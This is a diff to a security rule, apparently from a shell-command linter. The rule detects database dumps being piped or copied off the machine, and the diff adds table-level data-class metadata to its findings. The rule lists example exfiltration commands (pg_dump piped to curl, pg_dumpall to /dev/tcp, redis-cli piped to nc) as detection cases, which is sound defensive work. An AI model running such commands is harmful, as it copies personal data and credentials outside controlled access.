@@ -5,7 +5,9 @@ import { outputToNetwork } from './util/network';
 /**
  * Database dumps leaving the machine: `pg_dump db | curl -T - …`, `mysqldump … | gzip | ssh host
  * 'cat > x'`, `pg_dump … > /dev/tcp/…`, or a dump file that a later command uploads. The dump
- * tools and their output options are those of `shell/db-clients.ts` (`dbDump`).
+ * tools and their output options are those of `shell/db-clients.ts` (`dbDump`). The engine
+ * attaches the dumped tables (`shell/dump-tables.ts`) to the finding, so data-class policies
+ * apply to it.
  */
 export default defineShellRule({
   meta: {
@@ -19,7 +21,9 @@ export default defineShellRule({
       problem:
         'A dump holds every row of the database, personal data and credentials included. Piping it ' +
         'into `curl`, `nc`, `ssh` or a bucket copies all of it outside the boundary where access is ' +
-        'controlled and audited; this is the shape of a bulk data exfiltration.',
+        'controlled and audited; this is the shape of a bulk data exfiltration. The finding carries ' +
+        'the tables the dump holds (`pg_dump -t`, `mysqldump DB TABLE…`; every table for a whole ' +
+        'database), so a policy can treat personal data (`dataClass: pii`) apart.',
       solution:
         'Back up through the managed backup service of the database or an approved pipeline that ' +
         'encrypts and logs transfers; restore into other environments from masked or synthetic data.',
@@ -43,6 +47,7 @@ export default defineShellRule({
         'pg_dump -f dump.sql prod && scp dump.sql me@laptop:',
         'pg_dumpall > /dev/tcp/10.0.0.1/9000',
         'redis-cli -h cache.internal --rdb - | nc 10.0.0.5 9000',
+        'sudo -u postgres pg_dump -t users app | curl -T - https://example.com/upload',
       ],
     },
   },
